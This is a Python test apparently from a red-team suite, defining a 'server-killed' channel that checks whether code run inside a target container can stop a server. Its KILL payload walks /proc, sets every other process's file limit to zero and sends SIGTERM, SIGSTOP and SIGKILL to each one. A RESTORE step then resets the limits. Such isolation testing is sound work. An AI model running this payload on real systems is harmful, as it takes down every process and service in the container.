from __future__ import annotations

import contextlib

from tests.redteam.channel import channel
from tests.redteam.targets import Target, wait_for
from tests.redteam.wire import GONE

# The first process of a container shrugs off most signals, but not that it may open no more files.
EACH = """
import os, resource, signal
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    if pid != os.getpid():
        try:
            hard = resource.prlimit(pid, resource.RLIMIT_NOFILE)[1]
            {act}
        except OSError:
            pass
"""
KILL = EACH.format(
    act="""resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, hard))
            for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
                os.kill(pid, number)"""
)
RESTORE = EACH.format(act="resource.prlimit(pid, resource.RLIMIT_NOFILE, (hard, hard))")


@channel(
    "server-killed",
    "All other processes killed by a kernel, or kept from opening anything, the server first",
    direction="stop",
    closed_by="engine and desk are two containers",
    stage=2,
)
def attack(site: Target, secret: bytes) -> bytes | None:
    site.run(KILL, within=2)
    stopped = wait_for(lambda: not site.answers(1), within=10)
    with contextlib.suppress(*GONE):
        site.run(RESTORE, within=3)
    return secret if stopped else None
